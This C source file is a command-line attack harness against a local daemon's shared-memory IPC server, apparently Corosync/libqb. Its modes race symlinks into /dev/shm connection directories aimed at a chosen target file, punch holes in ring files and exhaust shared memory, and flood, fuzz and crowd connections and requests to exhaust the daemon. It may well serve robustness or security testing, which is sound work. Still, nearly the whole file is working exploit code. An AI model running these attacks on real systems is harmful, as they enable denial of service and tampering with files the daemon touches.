/*
 * Attacks on the IPC server of a daemon, by what any local program can do: no library, raw sockets and files.
 *
 *   ipc sweep SECONDS TARGET          makes stale-looking connection directories and exchanges a directory in them with a link to TARGET
 *   ipc hole SERVICE                  punches holes in the ring files, fills the shared memory, sends a request
 *   ipc connect SERVICE N BYTES HOW   opens N connections for messages of BYTES; HOW: silent, byte (makes the daemon map the rings), late (a byte
 *                                     on all of them at once, after a line from its standard input)
 *   ipc mute SERVICE N                connects N times and never sends the connection request
 *   ipc flood SERVICE SECONDS HOW     handshakes, one after the other; HOW: bare (closes at once), ask (does not wait), full, paced (full, with pauses
 *                                     of 2 ms)
 *   ipc storm SERVICE N SEED          N requests with random ids, sizes and bodies, the memory changed meanwhile; connects again when cut
 *   ipc crowd SERVICE N SECONDS FN    N connections, each with requests ready all the time (function FN, no body)
 *   ipc members N HOW                 N connections to cpg that say they are N processes and join; HOW: one (group of all), each (its own): prints how
 *                                     many got which status, and in how many seconds
 *   ipc trackers N SECONDS            N connections that track votequorum and never read, one that sets the expected votes all the time
 *   ipc hail SERVICE N SEED HOW       N handshakes, mostly wrong ones; HOW: patient (waits for responses), hasty
 *   ipc probe SERVICE SECONDS         connects again and again, at once when it is told to: prints how long the longest try took, in ms,
 *                                     and how late it woke up at worst from its own pauses, which is the machine's doing, not the daemon's;
 *                                     0 seconds: until its standard input ends
 *
 * What holds things goes on until its standard input ends.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define RESPONSE_BYTES 12328
#define SEMAPHORE_WORD 2052
#define COMMITTED 0xA1A1A1A1u

/* A campaign that takes too long is ended by SIGTERM, and says how far it came. */
static volatile sig_atomic_t stopped;

static void stop(int number)
{
	(void)number;
	stopped = 1;
}

struct connection {
	int fd;
	int32_t error;
	char rings[3][4096];
};

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void hold(void)
{
	char byte;
	fflush(stdout);
	while (read(0, &byte, 1) > 0)
		;
}

/* A socket that has connected, or -errno. */
static int dial(const char *service)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	strcpy(address.sun_path + 1, service);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	fcntl(fd, F_SETFL, O_NONBLOCK);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
		return fd;
	int error = errno;
	close(fd);
	return -error;
}

static int ask(int fd, uint32_t bytes)
{
	uint32_t request[6] = { (uint32_t)-1, 0, 24, 0, bytes, 0 };
	return send(fd, request, sizeof(request), MSG_NOSIGNAL) == sizeof(request) ? 0 : -errno;
}

/* The whole handshake: 0 or the refusal's errno (negative). */
static int handshake(struct connection *c, const char *service, uint32_t bytes)
{
	static char response[RESPONSE_BYTES];
	c->fd = dial(service);
	if (c->fd < 0)
		return c->fd;
	size_t got = 0;
	int error = ask(c->fd, bytes);
	while (error == 0 && got < RESPONSE_BYTES) {
		struct pollfd wait = { .fd = c->fd, .events = POLLIN };
		if (poll(&wait, 1, 20000) == 0) {
			error = -ETIMEDOUT;
			break;
		}
		ssize_t n = recv(c->fd, response + got, RESPONSE_BYTES - got, 0);
		if (n <= 0)
			error = n == 0 ? -EPIPE : -errno;
		else
			got += (size_t)n;
	}
	if (error == 0)
		memcpy(&error, response + 16, 4);
	if (error != 0) {
		close(c->fd);
		return error;
	}
	for (int i = 0; i < 3; i++)
		memcpy(c->rings[i], response + 40 + 4096 * i, 4096);
	return 0;
}

static int ring_file(struct connection *c, int ring, const char *kind)
{
	char path[4200];
	snprintf(path, sizeof(path), "%s-%s", c->rings[ring], kind);
	return open(path, O_RDWR);
}

/* ---- sweep ---- */

#define PAIRS 12

static void sweep(double seconds, const char *target)
{
	static const char base[] = "/dev/shm/qb-4000000-1-1-aaaaaa", linked[] = "/dev/shm/qb-4000000-1-1-linked";
	char inner[PAIRS][128], link[PAIRS][128], file[160];
	double end = now() + seconds;
	for (int i = 0; i < PAIRS; i++) {
		snprintf(inner[i], sizeof(inner[i]), "%s/%s%d", base, i == 0 ? "qb-request-cmap-data" : "inner", i);
		snprintf(link[i], sizeof(link[i]), "%s/z%d", base, i);
	}
	mkdir(base, 0711);
	printf("ready\n");
	fflush(stdout);
	while (now() < end) {
		mkdir(base, 0711);
		for (int i = 0; i < PAIRS; i++) {
			/* Not empty, so that it takes a look inside to remove it. */
			mkdir(inner[i], 0755);
			snprintf(file, sizeof(file), "%s/file", inner[i]);
			close(open(file, O_RDWR | O_CREAT, 0600));
			symlink(target, link[i]);
		}
		for (int round = 0; round < 200; round++)
			for (int i = 0; i < PAIRS; i++)
				renameat2(AT_FDCWD, inner[i], AT_FDCWD, link[i], RENAME_EXCHANGE);
		/* The directory itself, too. */
		symlink(target, linked);
		renameat2(AT_FDCWD, linked, AT_FDCWD, base, RENAME_EXCHANGE);
		renameat2(AT_FDCWD, linked, AT_FDCWD, base, RENAME_EXCHANGE);
	}
}

/* ---- hole ---- */

static void hole(const char *service)
{
	struct connection c;
	int error = handshake(&c, service, 1048576);
	if (error != 0) {
		printf("refused %d\n", error);
		return;
	}
	int header[3], data[3];
	for (int i = 0; i < 3; i++) {
		header[i] = ring_file(&c, i, "header");
		data[i] = ring_file(&c, i, "data");
		/* As the library: 4 bytes less, and one more user of the ring. */
		if (i > 0)
			ftruncate(header[i], 8248);
		int32_t two = 2;
		pwrite(header[i], &two, 4, 8204);
		fallocate(data[i], FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1052672);
	}
	int filler = open("/dev/shm/filler", O_RDWR | O_CREAT, 0600);
	for (off_t step = 1 << 24; step >= 4096; step /= 2) {
		static off_t at;
		while (posix_fallocate(filler, at, step) == 0)
			at += step;
	}
	/* A request in the ring: "no such function". */
	uint32_t chunk[6] = { 16, COMMITTED, 9999, 0, 16, 0 };
	uint32_t one = 1, six = 6;
	ssize_t wrote = pwrite(data[0], chunk, sizeof(chunk), 0);
	pwrite(header[0], &six, 4, 0);
	pwrite(header[0], &one, 4, SEMAPHORE_WORD * 4);
	printf("wrote %zd\n", wrote);
	fflush(stdout);
	for (int i = 0; i < 10; i++)
		send(c.fd, "x", 1, MSG_NOSIGNAL);
	struct pollfd wait = { .fd = c.fd, .events = POLLIN };
	int ready = poll(&wait, 1, 1500);
	char byte;
	printf("%s\n", ready > 0 && recv(c.fd, &byte, 1, MSG_DONTWAIT) <= 0 ? "cut" : "open");
	unlink("/dev/shm/filler");
}

/* ---- many ---- */

static void summary(int good, const int *errors)
{
	printf("good %d", good);
	for (int i = 1; i < 200; i++)
		if (errors[i] > 0)
			printf(" errno%d %d", i, errors[i]);
	printf("\n");
	fflush(stdout);
}

static void count(int *errors, int error)
{
	errors[-error > 0 && -error < 200 ? -error : 199]++;
}

static void many(const char *service, int n, uint32_t bytes, const char *how)
{
	static int open[65536];
	int errors[200] = { 0 }, good = 0;
	struct connection c;
	for (int i = 0; i < n && good < 65536; i++) {
		int error = handshake(&c, service, bytes);
		if (error == -EAGAIN)
			usleep(1000);
		if (error != 0) {
			count(errors, error);
			continue;
		}
		open[good++] = c.fd;
		if (strcmp(how, "byte") == 0)
			send(c.fd, "x", 1, MSG_NOSIGNAL);
	}
	summary(good, errors);
	if (strcmp(how, "late") == 0 && getchar() != EOF)
		for (int i = 0; i < good; i++)
			send(open[i], "x", 1, MSG_NOSIGNAL);
	hold();
}

static void mute(const char *service, int n)
{
	int errors[200] = { 0 }, good = 0;
	for (int i = 0; i < n; i++) {
		int fd = dial(service);
		if (fd == -EAGAIN) {
			usleep(1000);
			fd = dial(service);
		}
		if (fd < 0)
			count(errors, fd);
		else
			good++;
	}
	summary(good, errors);
	hold();
}

static void flood(const char *service, double seconds, const char *how)
{
	int errors[200] = { 0 }, good = 0;
	double end = now() + seconds;
	struct connection c;
	printf("ready\n");
	fflush(stdout);
	while (now() < end) {
		int error, paced = strcmp(how, "paced") == 0;
		if (paced || strcmp(how, "full") == 0) {
			error = handshake(&c, service, 12328);
			if (error == 0)
				close(c.fd);
			if (paced)
				usleep(2000);
		} else {
			error = c.fd = dial(service);
			if (c.fd >= 0) {
				error = strcmp(how, "ask") == 0 ? ask(c.fd, 12328) : 0;
				close(c.fd);
			}
		}
		if (error == 0)
			good++;
		else
			count(errors, error);
	}
	summary(good, errors);
}

/* Where the rings of the present connection are mapped; one thread of its own changes the request ring at random. */
#define HEADER_AT ((uint32_t *)0x200000000000)
#define DATA_AT ((uint32_t *)0x200000100000)
#define READ_AT ((uint32_t *)0x200000200000)
#define HEADER_MAPPED 12288
#define DATA_MAPPED 16384
#define RING_WORDS 4096

static void *scribble(void *seed)
{
	unsigned state = *(unsigned *)seed;
	for (;;) {
		DATA_AT[rand_r(&state) % RING_WORDS] = (uint32_t)rand_r(&state) << (rand_r(&state) % 32);
		/* Mostly alone, so that it takes a while until the connection is cut, sometimes many at once. */
		if (rand_r(&state) % 512 != 0)
			usleep(2000);
	}
	return NULL;
}

/* Over what was there; without a file memory that nobody shares. */
static int map_at(void *place, size_t bytes, int fd)
{
	int flags = MAP_FIXED | (fd < 0 ? MAP_PRIVATE | MAP_ANONYMOUS : MAP_SHARED);
	return mmap(place, bytes, PROT_READ | PROT_WRITE, flags, fd, 0) == MAP_FAILED ? -1 : 0;
}

static void unmap_rings(void)
{
	map_at(HEADER_AT, HEADER_MAPPED, -1);
	map_at(DATA_AT, DATA_MAPPED, -1);
	map_at(READ_AT, HEADER_MAPPED, -1);
}

static int map_rings(struct connection *c)
{
	int header = ring_file(c, 0, "header"), data = ring_file(c, 0, "data"), response = ring_file(c, 1, "header");
	int error = header < 0 || data < 0 || response < 0 || map_at(HEADER_AT, HEADER_MAPPED, header) ||
		    map_at(DATA_AT, DATA_MAPPED, data) || map_at(READ_AT, HEADER_MAPPED, response);
	close(header);
	close(data);
	close(response);
	return error ? -1 : 0;
}

/* One request in the ring, as the library puts it there, with random content; its length in words. */
static uint32_t put_random(int is_cfg, unsigned *seed)
{
	static const int32_t odd[] = { 0, 1, 15, 16, 17, 24, 4095, -1, -3, INT32_MAX, INT32_MIN };
	uint32_t *data = DATA_AT, at = HEADER_AT[0] % RING_WORDS;
	uint32_t bytes = 16 + (uint32_t)rand_r(seed) % (rand_r(seed) % 4 == 0 ? 600 : 64), words = (bytes + 3) / 4;
	for (uint32_t w = 0; w < words; w++)
		data[(at + 2 + w) % RING_WORDS] = (uint32_t)rand_r(seed) % (rand_r(seed) % 3 == 0 ? UINT32_MAX : 256u);
	uint32_t id = (uint32_t)rand_r(seed) % 20;
	/* To kill a node or to shut it down is what a user of cfg may do. */
	data[(at + 2) % RING_WORDS] = is_cfg && (id == 2 || id == 3) ? 19 : id;
	data[(at + 4) % RING_WORDS] = rand_r(seed) % 2000 == 0 ? (uint32_t)odd[rand_r(seed) % 11] : bytes;
	data[at] = bytes;
	data[(at + 1) % RING_WORDS] = COMMITTED;
	HEADER_AT[0] = (at + 2 + words) % RING_WORDS;
	__atomic_add_fetch(&HEADER_AT[SEMAPHORE_WORD], 1, __ATOMIC_SEQ_CST);
	return 2 + words;
}

static void storm(const char *service, long n, unsigned seed)
{
	static char sink[4096];
	struct connection c = { .fd = -1 };
	pthread_t scribbler;
	long sent = 0, connections = 0, refused = 0;
	unsigned other = seed;
	int is_cfg = strcmp(service, "cfg") == 0;
	unmap_rings();
	pthread_create(&scribbler, NULL, scribble, &other);
	while (sent < n && refused < 5000 && !stopped) {
		if (c.fd < 0) {
			if (handshake(&c, service, 12328) != 0) {
				refused++;
				usleep(1000);
				continue;
			}
			if (map_rings(&c) != 0) {
				close(c.fd);
				c.fd = -1;
				continue;
			}
			connections++;
			send(c.fd, sink, 1, MSG_NOSIGNAL); /* now the other side has mapped them, too */
		}
		/* The ring has room for more than all of them. */
		int batch = 1 + (int)(rand_r(&seed) % 60), cut = 0;
		uint32_t words = 0;
		for (int i = 0; i < batch && words < RING_WORDS - 300; i++, sent++)
			words += put_random(is_cfg, &seed);
		if (send(c.fd, sink, (size_t)batch, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN)
			cut = 1;
		for (int spin = 0; !cut && HEADER_AT[SEMAPHORE_WORD] != 0 && spin < 2000; spin++) {
			struct pollfd gone = { .fd = c.fd, .events = POLLRDHUP };
			if (poll(&gone, 1, 0) > 0)
				cut = 1;
			usleep(20);
		}
		/* Mostly the responses are taken, so that it goes on. */
		if (rand_r(&seed) % 64 != 0) {
			READ_AT[1] = READ_AT[0];
			READ_AT[SEMAPHORE_WORD] = 0;
		}
		ssize_t got = recv(c.fd, sink, sizeof(sink), MSG_DONTWAIT);
		if (cut || got == 0 || (got < 0 && errno != EAGAIN) || rand_r(&seed) % 1000 == 0) {
			unmap_rings();
			close(c.fd);
			c.fd = -1;
		}
	}
	printf("sent %ld connections %ld refused %ld\n", sent, connections, refused);
}

/* ---- many connections with work ---- */

#define CROWD_MAX 4096
#define CROWD_REQUESTS 50

struct ring {
	uint32_t *header, *data, *response;
	int fd;
};

static uint32_t *map_file(struct connection *c, int ring, const char *kind, size_t bytes)
{
	int fd = ring_file(c, ring, kind);
	void *memory = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	return memory == MAP_FAILED ? NULL : memory;
}

static struct ring crowd_rings[CROWD_MAX];

/* N connections with their request rings mapped; how many there are. */
static int gather(const char *service, int n)
{
	int errors[200] = { 0 }, open = 0;
	struct connection c;
	for (int i = 0; i < n && i < CROWD_MAX; i++) {
		int error = handshake(&c, service, 12328);
		if (error != 0) {
			count(errors, error);
			continue;
		}
		struct ring *r = &crowd_rings[open];
		r->fd = c.fd;
		r->header = map_file(&c, 0, "header", HEADER_MAPPED);
		r->data = map_file(&c, 0, "data", DATA_MAPPED);
		r->response = map_file(&c, 1, "header", HEADER_MAPPED);
		send(c.fd, "x", 1, MSG_NOSIGNAL);
		open += r->header && r->data && r->response;
	}
	summary(open, errors);
	return open;
}

/* The same request several times, if the former ones were taken; how many were sent. Responses are taken unread. */
static int fill(struct ring *r, const uint32_t *request, uint32_t bytes, int times)
{
	static char sink[4096];
	uint32_t words = bytes / 4;
	if (__atomic_load_n(&r->header[SEMAPHORE_WORD], __ATOMIC_SEQ_CST) != 0)
		return 0;
	r->response[1] = r->response[0];
	r->response[SEMAPHORE_WORD] = 0;
	uint32_t at = r->header[0] % RING_WORDS;
	for (int k = 0; k < times; k++) {
		r->data[at] = bytes;
		r->data[(at + 1) % RING_WORDS] = COMMITTED;
		for (uint32_t w = 0; w < words; w++)
			r->data[(at + 2 + w) % RING_WORDS] = request[w];
		at = (at + 2 + words) % RING_WORDS;
	}
	r->header[0] = at;
	__atomic_add_fetch(&r->header[SEMAPHORE_WORD], times, __ATOMIC_SEQ_CST);
	ssize_t sent = send(r->fd, sink, (size_t)times, MSG_NOSIGNAL | MSG_DONTWAIT);
	recv(r->fd, sink, sizeof(sink), MSG_DONTWAIT);
	return sent > 0 ? times : 0;
}

static void crowd(const char *service, int n, double seconds, uint32_t function)
{
	const uint32_t request[4] = { function, 0, 16, 0 };
	unsigned long sent = 0;
	int open = gather(service, n);
	for (double end = now() + seconds; now() < end && !stopped;)
		for (int i = 0; i < open; i++)
			sent += (unsigned long)fill(&crowd_rings[i], request, sizeof(request), CROWD_REQUESTS);
	printf("sent %lu\n", sent);
}

static void trackers(int n, double seconds)
{
	static const uint32_t track[8] = { 3, 0, 32, 0, 0, 0, 2, 0 }, expect[6] = { 1, 0, 24, 0, 1, 0 };
	unsigned long sent = 0;
	int open = gather("votequorum", n + 1);
	for (int i = 1; i < open; i++)
		fill(&crowd_rings[i], track, sizeof(track), 1);
	usleep(200000);
	for (double end = now() + seconds; open > 0 && now() < end && !stopped; usleep(1000))
		sent += (unsigned long)fill(&crowd_rings[0], expect, sizeof(expect), CROWD_REQUESTS);
	printf("sent %lu\n", sent);
}

/* ---- many members, many groups ---- */

#define JOIN_BYTES 168

/* One request on a fresh connection: the status of the response, or -1. */
static int join_as(struct connection *c, const char *group, uint32_t pid)
{
	uint32_t chunk[2 + JOIN_BYTES / 4] = { JOIN_BYTES, COMMITTED, 0, 0, JOIN_BYTES, 0, (uint32_t)strlen(group), 0 };
	uint32_t used = 2 + JOIN_BYTES / 4, one = 1, ready = 0, status = 0;
	int header = ring_file(c, 0, "header"), data = ring_file(c, 0, "data");
	int response_header = ring_file(c, 1, "header"), response = ring_file(c, 1, "data");
	strcpy((char *)&chunk[8], group);
	chunk[2 + 152 / 4] = pid;
	ssize_t wrote = pwrite(data, chunk, sizeof(chunk), 0);
	wrote += pwrite(header, &used, 4, 0) + pwrite(header, &one, 4, SEMAPHORE_WORD * 4);
	send(c->fd, "x", 1, MSG_NOSIGNAL);
	for (double end = now() + 20; now() < end && !ready; usleep(100))
		if (pread(response_header, &ready, 4, SEMAPHORE_WORD * 4) != 4)
			break;
	int ok = wrote > 0 && ready && pread(response, &status, 4, 6 * 4) == 4;
	close(header);
	close(data);
	close(response_header);
	close(response);
	return ok ? (int)status : -1;
}

static void members(int n, const char *how)
{
	int statuses[200] = { 0 }, refused = 0;
	struct connection c;
	double begin = now();
	for (int i = 0; i < n; i++) {
		char group[32] = "one";
		if (handshake(&c, "cpg", 65536) != 0) {
			refused++;
			continue;
		}
		if (strcmp(how, "each") == 0)
			snprintf(group, sizeof(group), "group %d", i);
		int status = join_as(&c, group, 100000 + (uint32_t)i);
		statuses[status >= 0 && status < 199 ? status : 199]++;
	}
	printf("seconds %.1f refused %d", now() - begin, refused);
	for (int i = 0; i < 200; i++)
		if (statuses[i] > 0)
			printf(" status%d %d", i, statuses[i]);
	printf("\n");
	hold();
}

/* ---- handshakes of every kind ---- */

#define HELD 48

/* What is sent instead of a request: another length, other numbers, or one that is nearly right. */
static void ask_wrongly(int fd, unsigned *seed)
{
	uint32_t words[64];
	size_t bytes = rand_r(seed) % 3 == 0 ? (size_t)(rand_r(seed) % 256) : 24;
	for (int i = 0; i < 64; i++)
		words[i] = (uint32_t)rand_r(seed) << (rand_r(seed) % 32);
	if (rand_r(seed) % 2 == 0) {
		words[0] = (uint32_t)-1;
		words[2] = 24;
	}
	send(fd, words, bytes, MSG_NOSIGNAL);
}

static void hail(const char *service, long n, unsigned seed, int patient)
{
	int errors[200] = { 0 }, good = 0, held[HELD];
	struct connection c;
	for (int i = 0; i < HELD; i++)
		held[i] = -1;
	for (long i = 0; i < n && !stopped;) {
		int kind = rand_r(&seed) % 6, error = 0;
		if (patient && kind < 3) {
			error = handshake(&c, service, rand_r(&seed) % 32 == 0 ? (uint32_t)rand_r(&seed) : 12328);
			if (error == 0 && kind == 0)
				send(c.fd, &c, sizeof(c.rings[0]), MSG_NOSIGNAL | MSG_DONTWAIT);
		} else
			error = c.fd = dial(service);
		if (error == -EAGAIN) {
			usleep(500);
			continue;
		}
		i++;
		if (error < 0) {
			count(errors, error);
			continue;
		}
		good++;
		if (kind == 3)
			ask_wrongly(c.fd, &seed);
		else if (kind == 4)
			ask(c.fd, (uint32_t)rand_r(&seed) << (rand_r(&seed) % 32));
		/* Some stay; the one that had this place before goes, whatever became of it. */
		int *place = &held[rand_r(&seed) % HELD];
		if (rand_r(&seed) % 4 != 0)
			close(c.fd);
		else {
			if (*place >= 0)
				close(*place);
			*place = c.fd;
		}
	}
	summary(good, errors);
}

static void probe(const char *service, double seconds)
{
	double end = now() + seconds, worst = 0, late = 0;
	int served = 0, again = 0;
	struct connection c;
	struct pollfd input = { .fd = 0, .events = POLLIN };
	while (seconds > 0 ? now() < end : poll(&input, 1, 0) == 0) {
		double begin = now();
		int error;
		while ((error = handshake(&c, service, 12328)) == -EAGAIN && now() < begin + 20) {
			again++;
			usleep(5000);
		}
		if (error != 0) {
			printf("refused %d\n", error);
			return;
		}
		close(c.fd);
		served++;
		if (now() - begin > worst)
			worst = now() - begin;
		begin = now();
		usleep(20000);
		if (now() - begin - 0.02 > late)
			late = now() - begin - 0.02;
	}
	printf("served %d again %d worst %.0f late %.0f\n", served, again, worst * 1000, late * 1000);
}

int main(int argc, char **argv)
{
	struct rlimit limit;
	signal(SIGTERM, stop);
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
	if (argc == 4 && strcmp(argv[1], "sweep") == 0)
		sweep(atof(argv[2]), argv[3]);
	else if (argc == 3 && strcmp(argv[1], "hole") == 0)
		hole(argv[2]);
	else if (argc == 6 && strcmp(argv[1], "connect") == 0)
		many(argv[2], atoi(argv[3]), (uint32_t)atoi(argv[4]), argv[5]);
	else if (argc == 4 && strcmp(argv[1], "mute") == 0)
		mute(argv[2], atoi(argv[3]));
	else if (argc == 5 && strcmp(argv[1], "storm") == 0)
		storm(argv[2], atol(argv[3]), (unsigned)atoi(argv[4]));
	else if (argc == 6 && strcmp(argv[1], "hail") == 0)
		hail(argv[2], atol(argv[3]), (unsigned)atoi(argv[4]), strcmp(argv[5], "patient") == 0);
	else if (argc == 4 && strcmp(argv[1], "probe") == 0)
		probe(argv[2], atof(argv[3]));
	else if (argc == 4 && strcmp(argv[1], "members") == 0)
		members(atoi(argv[2]), argv[3]);
	else if (argc == 4 && strcmp(argv[1], "trackers") == 0)
		trackers(atoi(argv[2]), atof(argv[3]));
	else if (argc == 6 && strcmp(argv[1], "crowd") == 0)
		crowd(argv[2], atoi(argv[3]), atof(argv[4]), (uint32_t)atoi(argv[5]));
	else if (argc == 5 && strcmp(argv[1], "flood") == 0)
		flood(argv[2], atof(argv[3]), argv[4]);
	else
		return 2;
	return 0;
}
